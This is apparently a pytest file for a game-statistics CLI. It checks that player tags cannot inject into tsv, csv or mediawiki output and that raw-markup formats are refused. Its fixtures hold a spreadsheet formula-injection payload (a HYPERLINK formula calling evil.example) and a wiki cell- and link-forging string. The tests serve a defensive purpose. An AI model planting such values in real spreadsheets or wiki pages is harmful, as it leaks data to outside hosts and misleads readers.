"""A Player tag is someone else's text, whatever format summary and stats draw it in
(issue 41, item 5): a formula behind spaces is still guarded in tsv and csv, the formats
that write tag text raw into markup (``latex_raw``, ``asciidoc``, as ``unsafehtml``) are
refused, and in ``mediawiki`` a '|' or '[[' in a name forges no cell, link or image."""

from __future__ import annotations

import pytest

from dungeon_cli import registry
from dungeon_cli.shell.sample import sample_game
from notation.writer import escape

FORMULA = ' =HYPERLINK("http://evil.example/?x","click")'
FORGER = "a | b || c [[File:http://evil.example/x.png]] {{T}}"


@pytest.fixture
def records(tmp_path):
    finished = sample_game(registry.get("scoundrel"), 3)[0].text()  # groups count finished games
    for name, player in (("f.dgn", FORMULA), ("g.dgn", FORGER)):
        (tmp_path / name).write_text(finished.replace("\n\n", f'\n[Player "{escape(player)}"]\n\n', 1))
    return tmp_path


@pytest.mark.parametrize("command", [["summary"], ["summary", "--by", "player"], ["stats", "--by", "player"]])
@pytest.mark.parametrize("fmt", ["tsv", "csv"])
def test_a_formula_behind_spaces_is_guarded(run, records, command, fmt):
    result = run([*command, "--format", fmt, str(records)])
    assert result.exit_code in (0, 1), result.output
    cells = [cell.strip().strip('"') for line in result.stdout.splitlines() for cell in line.replace(",", "\t").split("\t")]
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells), result.stdout
    assert any("HYPERLINK" in cell and cell.startswith("'") for cell in cells), result.stdout


@pytest.mark.parametrize("command", [["summary"], ["stats"]])
@pytest.mark.parametrize("fmt", ["latex_raw", "asciidoc", "unsafehtml"])
def test_the_formats_that_write_tag_text_raw_are_refused(run, records, command, fmt):
    from dungeon_cli.cli.summary import complete_format

    result = run([*command, "--format", fmt, str(records)])
    assert result.exit_code == 2 and "is not one of" in result.stderr and result.stdout == ""
    assert fmt not in complete_format(None, None, fmt[:3])


@pytest.mark.parametrize("command", [["summary"], ["summary", "--by", "player"], ["stats", "--by", "player"]])
def test_mediawiki_cells_cannot_be_forged(run, records, command):
    result = run([*command, "--format", "mediawiki", str(records)])
    assert result.exit_code in (0, 1), result.output
    row = next(line for line in result.stdout.splitlines() if "File:" in line)
    assert "[[" not in row and "{{" not in row and "a &#124; b &#124;&#124; c" in row
    assert row.count("||") == result.stdout.splitlines()[3].count("!!")  # as many cells as the header
